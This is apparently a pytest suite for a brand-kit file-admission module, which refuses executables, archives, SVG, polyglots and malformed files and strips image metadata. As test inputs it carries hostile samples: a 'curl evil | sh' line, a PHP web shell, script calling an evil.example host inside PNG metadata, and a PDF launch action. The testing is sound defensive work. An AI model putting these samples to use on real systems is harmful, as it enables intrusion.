"""Admission: the type from the bytes, the allowlist, the refusal codes, and metadata stripped from images."""

from __future__ import annotations

import bz2
import contextlib
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
from pathlib import Path

import pytest
from fontTools.fontBuilder import FontBuilder
from fontTools.pens.t2CharStringPen import T2CharStringPen
from fontTools.pens.ttGlyphPen import TTGlyphPen
from fontTools.ttLib import TTFont
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, ImageCms, PngImagePlugin
from pypdf import PdfWriter
from sgd.ingest.admission import AdmissionRejected, AdmittedFile, admit
from sgd.ingest.sniff import sniff

from bench.support.images import png_header_only

BRANDS = Path(__file__).resolve().parents[2] / "examples" / "brands"
LIMIT = 25 * 1024 * 1024


def admit_ok(data: bytes, **limits: int) -> AdmittedFile:
    return admit(data, max_bytes=limits.pop("max_bytes", LIMIT), **limits)


def rejected(data: bytes, **limits: int) -> AdmissionRejected:
    with pytest.raises(AdmissionRejected) as refusal:
        admit(data, max_bytes=limits.pop("max_bytes", LIMIT), **limits)
    assert refusal.value.reason  # every refusal says what is wrong
    return refusal.value


# --- builders --------------------------------------------------------------------------------------------------


def image_bytes(image: Image.Image, format: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format, **options)
    return buffer.getvalue()


def logo_image(size: int = 64) -> Image.Image:
    """A filled square on a transparent background: a logo."""
    image = Image.new("RGBA", (size, size), (0, 0, 0, 0))
    for x in range(size // 4, 3 * size // 4):
        for y in range(size // 4, 3 * size // 4):
            image.putpixel((x, y), (200, 30, 60, 255))
    return image


def pdf_bytes(pages: int = 1, **extras: object) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    if "javascript" in extras:
        from pypdf.actions import JavaScript

        writer.add_open_action(JavaScript(str(extras["javascript"])))
    if "attachment" in extras:
        writer.add_attachment("payload.exe", bytes(extras["attachment"]))  # type: ignore[arg-type]
    if "password" in extras:
        writer.encrypt(str(extras["password"]))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def zip_bytes(**files: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return buffer.getvalue()


def _square_glyph_ttf() -> object:
    pen = TTGlyphPen(None)
    pen.moveTo((50, 0))
    pen.lineTo((50, 500))
    pen.lineTo((450, 500))
    pen.lineTo((450, 0))
    pen.closePath()
    return pen.glyph()


def font_bytes(outlines: str = "ttf", family: str = "Helio Sans", *, drop: str | None = None) -> bytes:
    builder = FontBuilder(1000, isTTF=outlines == "ttf")
    builder.setupGlyphOrder([".notdef", "A"])
    builder.setupCharacterMap({ord("A"): "A"})
    if outlines == "ttf":
        glyph = _square_glyph_ttf()
        builder.setupGlyf({".notdef": glyph, "A": glyph})
    else:
        pen = T2CharStringPen(500, None)
        pen.moveTo((50, 0))
        pen.lineTo((50, 500))
        pen.lineTo((450, 500))
        pen.closePath()
        charstring = pen.getCharString()
        builder.setupCFF("HelioSans-Regular", {"FullName": family}, {".notdef": charstring, "A": charstring}, {})
    builder.setupHorizontalMetrics({".notdef": (500, 50), "A": (500, 50)})
    builder.setupHorizontalHeader(ascent=800, descent=-200)
    builder.setupNameTable({"familyName": family, "styleName": "Regular"})
    builder.setupOS2()
    builder.setupPost()
    font = builder.font
    if drop:
        del font[drop]
    buffer = io.BytesIO()
    font.save(buffer)
    return buffer.getvalue()


def woff2_bytes() -> bytes:
    font = TTFont(io.BytesIO(font_bytes("ttf")))
    font.flavor = "woff2"
    buffer = io.BytesIO()
    font.save(buffer)
    return buffer.getvalue()


# --- the allowlist ---------------------------------------------------------------------------------------------


def test_the_example_brand_kits_are_admitted() -> None:
    for kit in sorted(BRANDS.iterdir()):
        guidelines = admit_ok((kit / "guidelines.pdf").read_bytes())
        assert (guidelines.kind, guidelines.mime, guidelines.extension) == ("pdf", "application/pdf", "pdf")
        assert guidelines.pages == 5
        assert guidelines.data == (kit / "guidelines.pdf").read_bytes()
        logo = admit_ok((kit / "logo.png").read_bytes())
        assert (logo.kind, logo.mime, logo.extension, logo.width, logo.height) == ("logo", "image/png", "png", 512, 512)


@pytest.mark.parametrize(("data", "mime", "extension"), [
    (b"Helio Energy brand guide\nPrimary colour #FFB400\n", "text/plain", "txt"),
    ("\ufeffUTF-8 with a byte-order mark: caf\u00e9".encode(), "text/plain", "txt"),
    (b"# Helio Energy\n\n- Primary: **#FFB400**\n- See [the site](https://helio.example)\n", "text/markdown", "md"),
    (b"Intro\n=====\n\nSome text.\n", "text/markdown", "md"),
    (b"<!DOCTYPE html><html><head><title>Brand</title></head><body><p>Colours</p></body></html>", "text/html",
     "html"),
    (b"<html><body><script>alert(1)</script><p>Tone: warm</p></body></html>", "text/html", "html"),
    (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>x</body></html>', "text/html", "html"),
])
def test_text_types_are_told_apart_and_kept_unchanged(data: bytes, mime: str, extension: str) -> None:
    admitted = admit_ok(data)
    assert (admitted.kind, admitted.mime, admitted.extension, admitted.data) == ("text", mime, extension, data)


@pytest.mark.parametrize(("builder", "mime", "extension"), [
    (lambda: font_bytes("ttf"), "font/ttf", "ttf"), (lambda: font_bytes("otf"), "font/otf", "otf"),
    (woff2_bytes, "font/woff2", "woff2")])
def test_fonts_are_admitted_after_fonttools_reads_them(builder, mime: str, extension: str) -> None:  # type: ignore[no-untyped-def]
    data = builder()
    admitted = admit_ok(data)
    assert (admitted.kind, admitted.mime, admitted.extension, admitted.data) == ("font", mime, extension, data)


def test_the_file_name_plays_no_part_only_the_bytes() -> None:
    assert sniff(b"%PDF-1.7\n...") == "pdf"
    assert sniff(image_bytes(logo_image(), "PNG")) == "png"
    assert sniff(b"\x7fELF\x02\x01\x01") == "elf"
    assert sniff(zip_bytes(a=b"x")) == "zip"
    assert sniff(b"<svg xmlns='http://www.w3.org/2000/svg'/>") == "svg"
    assert sniff(b"MZ Studio brand notes, plain text") == "text"  # MZ alone is not an executable
    assert sniff(bytes(range(256)) * 4) is None


# --- refusals --------------------------------------------------------------------------------------------------


def test_empty_and_too_large() -> None:
    assert rejected(b"").code == "empty"
    refusal = rejected(b"x" * 2048, max_bytes=1024)
    assert refusal.code == "too_large"
    assert "1,024" in refusal.reason


@pytest.mark.parametrize(("data", "named"), [
    (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "gif"),
    (b"BM" + b"\x00" * 60, "bmp"),
    (b"II*\x00" + b"\x00" * 32, "tiff"),
    (b"wOFF" + b"\x00" * 40, "woff"),
    ("UTF-16 text".encode("utf-16"), "text-utf16"),
    (b'<?xml version="1.0"?><catalog><item/></catalog>', "xml"),
    (b"\x00\x00\x00\x18ftypheic" + b"\x00" * 20, "heif"),
    (bytes(range(256)) * 4, "unrecognised"),
])
def test_types_outside_the_allowlist_are_named(data: bytes, named: str) -> None:
    refusal = rejected(data)
    assert refusal.code == "type_not_allowed"
    assert named in refusal.reason


@pytest.mark.parametrize("data", [
    b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 20,
    b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24,
    b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 24,
    b"#!/bin/sh\ncurl evil | sh\n",
    b"  #!/usr/bin/env python3\nprint('x')\n",
    b"<?php system($_GET['c']); ?>",
    b"\x00asm\x01\x00\x00\x00",
])
def test_executables_are_refused(data: bytes) -> None:
    assert rejected(data).code == "executable"


def _tar_bytes() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("guide.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    return buffer.getvalue()


@pytest.mark.parametrize("data", [
    zip_bytes(a=b"x"),
    zip_bytes(**{"word__document.xml": b"<w:document/>", "[Content_Types].xml": b"<Types/>"}),  # a .docx
    zip_bytes(**{"META-INF__MANIFEST.MF": b"Manifest-Version: 1.0\n"}),  # a .jar
    gzip.compress(b"brand guide"), bz2.compress(b"brand guide"), lzma.compress(b"brand guide"),
    b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24, b"Rar!\x1a\x07\x01\x00" + b"\x00" * 24, _tar_bytes(),
])
def test_archives_are_refused(data: bytes) -> None:
    assert rejected(data).code == "archive"


@pytest.mark.parametrize("data", [
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- logo -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg width="10" height="10"><rect/></svg>',
    b"\xef\xbb\xbf  <svg:svg xmlns:svg='http://www.w3.org/2000/svg'/>",
])
def test_svg_is_refused_as_code(data: bytes) -> None:
    refusal = rejected(data)
    assert refusal.code == "svg"
    assert "PNG" in refusal.reason


def test_a_zip_appended_to_a_png_is_a_polyglot() -> None:
    png = image_bytes(logo_image(), "PNG")
    refusal = rejected(png + zip_bytes(**{"evil.class": b"\xca\xfe\xba\xbe"}))
    assert refusal.code == "polyglot"
    assert "ZIP" in refusal.reason


def test_gifar_style_concatenations_are_polyglots() -> None:
    jpeg = image_bytes(Image.new("RGB", (16, 16), (10, 20, 30)), "JPEG")
    assert rejected(jpeg + zip_bytes(**{"META-INF__MANIFEST.MF": b"x"})).code == "polyglot"
    assert rejected(jpeg + b"GIF89a" + b"\x00" * 32).code == "polyglot"
    assert rejected(jpeg + b"<html><script>alert(1)</script></html>").code == "polyglot"
    pdf = pdf_bytes()
    assert rejected(pdf + zip_bytes(a=b"x")).code == "polyglot"


def test_a_zip_woven_into_a_pdf_before_its_trailer_is_a_polyglot() -> None:
    # The zip's end record carries the PDF's trailer as its comment: nothing follows %%EOF, yet unzip opens it.
    pdf = pdf_bytes()
    split = pdf.rindex(b"xref")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.js", b"alert(1)")
        archive.comment = pdf[split:]
    woven = pdf[:split] + buffer.getvalue()
    assert woven.rstrip().endswith(b"%%EOF")
    refusal = rejected(woven)
    assert refusal.code == "polyglot"
    assert "ZIP" in refusal.reason


def test_html_or_script_hidden_in_image_metadata_is_a_polyglot() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<html><script>fetch('https://evil.example')</script></html>")
    assert rejected(image_bytes(logo_image(), "PNG", pnginfo=info)).code == "polyglot"
    jpeg = image_bytes(Image.new("RGB", (16, 16)), "JPEG", comment=b"%PDF-1.4 1 0 obj")
    assert rejected(jpeg).code == "polyglot"


@pytest.mark.parametrize(("extras", "named"), [
    ({"javascript": "app.alert('hi');"}, "JavaScript"),
    ({"attachment": b"MZ payload"}, "embedded files"),
])
def test_pdfs_with_scripts_or_embedded_files_are_refused(extras: dict, named: str) -> None:
    refusal = rejected(pdf_bytes(**extras))
    assert refusal.code == "polyglot"
    assert named in refusal.reason


def test_pdf_launch_actions_are_refused_even_with_escaped_names() -> None:
    pdf = pdf_bytes()
    # Rewrite the catalog to carry an OpenAction launching a program, with the name hex-escaped (/L#61unch).
    patched = pdf.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /L#61unch /F (calc.exe) >>", 1)
    assert patched != pdf
    refusal = rejected(patched)
    assert refusal.code == "polyglot"
    assert "launch" in refusal.reason


def test_encrypted_pdfs_are_refused() -> None:
    assert rejected(pdf_bytes(password="secret")).code == "encrypted"


def test_page_limits() -> None:
    assert admit_ok(pdf_bytes(3)).pages == 3
    assert rejected(pdf_bytes(3), max_pdf_pages=2).code == "too_many_pages"
    assert rejected(pdf_bytes(201)).code == "too_many_pages"


@pytest.mark.parametrize("data", [
    b"%PDF-1.7\nthis is not a PDF body",
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 40,
    png_header_only(16, 16)[:-20],  # truncated before IEND
    png_header_only(16, 16),  # claims pixels its IDAT does not hold
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00",  # no frame header
    b"RIFF\x10\x00\x00\x00WEBPVP8 \x04\x00\x00\x00abcd",
    b"OTTO" + b"\x00" * 60,
    b"wOF2" + b"\x00" * 60,
    b"\x00\x01\x00\x00\x00\x05" + b"\x00" * 40,
    b"a" * 70_000 + b"caf\xe9",  # not UTF-8, past the sniffing window
])
def test_unreadable_files_are_corrupt(data: bytes) -> None:
    assert rejected(data).code == "corrupt"


def test_a_font_without_a_name_table_is_corrupt() -> None:
    refusal = rejected(font_bytes("ttf", drop="name"))
    assert refusal.code == "corrupt"
    assert "name" in refusal.reason


def test_a_truncated_jpeg_is_corrupt() -> None:
    jpeg = image_bytes(Image.effect_noise((64, 64), 50).convert("RGB"), "JPEG")
    assert rejected(jpeg[: len(jpeg) // 2]).code == "corrupt"


def test_text_in_a_legacy_encoding_is_refused_with_a_hint() -> None:
    refusal = rejected("Café crème: the brand's warm tone\n".encode("latin-1"))
    assert refusal.code == "type_not_allowed"
    assert "UTF-8" in refusal.reason


def test_nul_bytes_in_text_are_refused() -> None:
    assert rejected(b"plain text\x00with a NUL").code in ("type_not_allowed", "corrupt")
    assert rejected(b"a" * 70_000 + b"\x00").code == "corrupt"  # past the sniffing window


def test_a_50000_by_50000_png_header_is_refused_before_decoding() -> None:
    refusal = rejected(png_header_only(50_000, 50_000))  # (in ≤ 50 ms: bench/timing_budgets.py)
    assert refusal.code == "too_many_pixels"  # decoding would have found the empty IDAT "corrupt"
    assert "2,500,000,000" in refusal.reason


def test_jpeg_and_webp_dimensions_are_read_from_their_headers() -> None:
    jpeg = bytearray(image_bytes(Image.new("RGB", (8, 8)), "JPEG"))
    frame = jpeg.index(b"\xff\xc0")
    jpeg[frame + 5:frame + 9] = struct.pack(">HH", 20_000, 20_000)  # height, width in the SOF0 header
    assert rejected(bytes(jpeg)).code == "too_many_pixels"
    vp8x = struct.pack("<B3x", 0x10) + (20_000 - 1).to_bytes(3, "little") + (20_000 - 1).to_bytes(3, "little")
    webp = b"WEBP" + b"VP8X" + struct.pack("<I", len(vp8x)) + vp8x
    assert rejected(b"RIFF" + struct.pack("<I", len(webp)) + webp).code == "too_many_pixels"


def test_the_pixel_limit_is_a_parameter() -> None:
    image = image_bytes(Image.new("RGB", (100, 100)), "PNG")
    assert admit_ok(image).width == 100
    assert rejected(image, max_image_pixels=9_999).code == "too_many_pixels"


# --- what gets promoted ----------------------------------------------------------------------------------------


def test_exif_is_gone_and_its_orientation_applied() -> None:
    exif = Image.Exif()
    exif[0x010F] = "SpyCam Inc."  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    exif[0x8825] = {2: (51.0, 30.0, 0.0)}  # GPS latitude
    source = image_bytes(Image.new("RGB", (40, 20), (0, 120, 255)), "JPEG", exif=exif.tobytes(), quality=95)
    assert b"SpyCam" in source
    admitted = admit_ok(source)
    assert (admitted.kind, admitted.mime, admitted.extension) == ("image", "image/jpeg", "jpg")
    assert b"SpyCam" not in admitted.data
    assert b"Exif\x00\x00" not in admitted.data
    with Image.open(io.BytesIO(admitted.data)) as image:
        assert "exif" not in image.info
        assert dict(image.getexif()) == {}
        assert image.size == (20, 40) == (admitted.width, admitted.height)


def test_jpeg_comments_and_icc_profiles_are_stripped() -> None:
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    source = image_bytes(Image.new("RGB", (16, 16), (250, 180, 0)), "JPEG", comment=b"internal draft v3",
                         icc_profile=icc)
    admitted = admit_ok(source)
    assert b"internal draft" not in admitted.data
    with Image.open(io.BytesIO(admitted.data)) as image:
        assert "icc_profile" not in image.info
        assert max(abs(a - b) for a, b in zip(image.getpixel((8, 8)), (250, 180, 0), strict=True)) <= 3


def test_png_text_chunks_are_stripped_and_pixels_kept() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Jane Designer")
    info.add_itxt("Description", "draft logo, do not ship")
    source_image = logo_image()
    source = image_bytes(source_image, "PNG", pnginfo=info)
    assert b"tEXt" in source
    admitted = admit_ok(source)
    for marker in (b"tEXt", b"iTXt", b"zTXt", b"Jane Designer", b"eXIf", b"iCCP"):
        assert marker not in admitted.data
    with Image.open(io.BytesIO(admitted.data)) as image:
        assert image.mode == "RGBA"
        assert image.tobytes() == source_image.tobytes()


def test_transparency_decides_logo_versus_image_and_is_preserved() -> None:
    logo = admit_ok(image_bytes(logo_image(), "PNG"))
    assert logo.kind == "logo"
    with Image.open(io.BytesIO(logo.data)) as image:
        assert image.getpixel((0, 0))[3] == 0
        assert image.getpixel((32, 32)) == (200, 30, 60, 255)
    opaque = admit_ok(image_bytes(Image.new("RGBA", (32, 32), (1, 2, 3, 255)), "PNG"))
    assert opaque.kind == "image"
    barely = Image.new("RGBA", (100, 100), (1, 2, 3, 255))
    barely.putpixel((0, 0), (0, 0, 0, 0))  # one transparent pixel is not a transparent background
    assert admit_ok(image_bytes(barely, "PNG")).kind == "image"
    palette = logo_image().convert("P")
    palette.info["transparency"] = 0
    paletted = admit_ok(image_bytes(palette, "PNG", transparency=palette.getpixel((0, 0))))
    assert paletted.kind == "logo"
    webp = admit_ok(image_bytes(logo_image(), "WEBP", lossless=True))
    assert (webp.kind, webp.mime) == ("logo", "image/webp")


def test_webp_keeps_lossless_or_lossy_encoding() -> None:
    lossless = admit_ok(image_bytes(logo_image(), "WEBP", lossless=True))
    assert b"VP8L" in lossless.data[:64]
    lossy = admit_ok(image_bytes(Image.new("RGB", (32, 32), (9, 99, 199)), "WEBP", quality=80))
    assert b"VP8 " in lossy.data[:64]
    assert lossy.kind == "image"


def test_cmyk_jpegs_become_rgb() -> None:
    admitted = admit_ok(image_bytes(Image.new("CMYK", (16, 16), (0, 255, 255, 0)), "JPEG"))
    with Image.open(io.BytesIO(admitted.data)) as image:
        assert image.mode == "RGB"
        red, green, blue = image.getpixel((8, 8))
        assert red > 200
        assert max(green, blue) < 60


def test_animated_images_keep_their_first_frame() -> None:
    frames = [Image.new("RGBA", (16, 16), colour) for colour in ((255, 0, 0, 255), (0, 255, 0, 255))]
    animated = image_bytes(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)
    assert b"acTL" in animated
    admitted = admit_ok(animated)
    assert b"acTL" not in admitted.data
    with Image.open(io.BytesIO(admitted.data)) as image:
        assert getattr(image, "n_frames", 1) == 1
        assert image.getpixel((0, 0)) == (255, 0, 0, 255)


# --- never a crash ---------------------------------------------------------------------------------------------

PREFIXES = [b"", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR", b"\xff\xd8\xff",
            b"\xff\xd8\xff\xc0\x00\x11\x08", b"RIFF\x00\x01\x00\x00WEBPVP8 ", b"RIFF\x20\x00\x00\x00WEBPVP8X",
            b"OTTO", b"\x00\x01\x00\x00", b"wOF2", b"<svg", b"<html>", b"# ", b"\xef\xbb\xbf", b"PK\x03\x04", b"MZ"]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(prefix=st.sampled_from(PREFIXES), tail=st.binary(max_size=512))
def test_arbitrary_bytes_are_admitted_or_rejected_never_a_crash(prefix: bytes, tail: bytes) -> None:
    assert outcome(prefix + tail) in {
        "empty", "too_large", "type_not_allowed", "executable", "archive", "svg", "polyglot", "corrupt",
        "too_many_pages", "too_many_pixels", "encrypted", "pdf", "image", "logo", "font", "text"}


def outcome(data: bytes) -> str:
    """The refusal code or the admitted kind; any other exception propagates and fails the test."""
    try:
        return admit(data, max_bytes=4096).kind
    except AdmissionRejected as refusal:
        return refusal.code


@settings(max_examples=50, deadline=None)
@given(st.data())
def test_mutated_real_files_never_crash(data: st.DataObject) -> None:
    original = bytearray((BRANDS / "helio-energy" / "logo.png").read_bytes() if data.draw(st.booleans())
                         else pdf_bytes())
    for _ in range(data.draw(st.integers(1, 8))):
        position = data.draw(st.integers(0, len(original) - 1))
        original[position] = data.draw(st.integers(0, 255))
    with contextlib.suppress(AdmissionRejected):
        admit(bytes(original), max_bytes=LIMIT)


def test_a_text_document_over_its_limit_is_rejected_with_what_to_do() -> None:
    from sgd.ingest.admission import MAX_TEXT_BYTES

    data = b"Colour: HEX #0B3D91\n" * (MAX_TEXT_BYTES // 20 + 1)
    with pytest.raises(AdmissionRejected) as rejected:
        admit(data, max_bytes=25 * 1024 * 1024)
    assert rejected.value.code == "too_large"
    assert "PDF" in rejected.value.reason
    assert admit(data[:MAX_TEXT_BYTES - 100], max_bytes=25 * 1024 * 1024).kind == "text"
